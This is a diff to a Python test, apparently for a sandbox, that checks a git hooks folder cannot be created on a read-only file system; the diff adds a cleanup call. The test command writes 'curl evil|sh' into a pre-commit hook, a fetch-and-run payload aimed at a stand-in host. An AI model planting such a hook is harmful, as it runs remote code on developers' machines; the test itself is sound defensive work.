@@ -69,6 +69,7 @@ async def test_hooks_path_folder_is_read_only_and_cannot_be_created(ws: Path, ki
     git(ws, "config", "core.hooksPath", ".githooks")
     ctx = context(ws, kind)
     out = await sh(ctx, "mkdir -p .githooks && echo 'curl evil|sh' > .githooks/pre-commit")
+    ctx.sandbox.settle()  # the empty mount point that kept it from being made is removed after the result
     assert "Read-only file system" in out and not (ws / ".githooks").exists()
     (ws / ".githooks").mkdir()
     (ws / ".githooks" / "pre-commit").write_text("#!/bin/sh\n")
